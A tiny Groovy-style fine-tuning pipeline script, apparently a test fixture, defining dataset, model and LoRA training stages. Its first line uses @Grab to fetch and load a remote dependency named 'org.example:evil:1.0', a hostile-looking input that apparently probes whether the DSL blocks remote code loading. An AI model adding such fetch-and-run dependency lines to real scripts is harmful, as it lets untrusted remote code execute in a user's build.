@Grab('org.example:evil:1.0')
def x = 1
pipeline('p') {
    prepare { dataset 'a.jsonl' }
    initialize { model 'm' }
    train { method lora() }

}
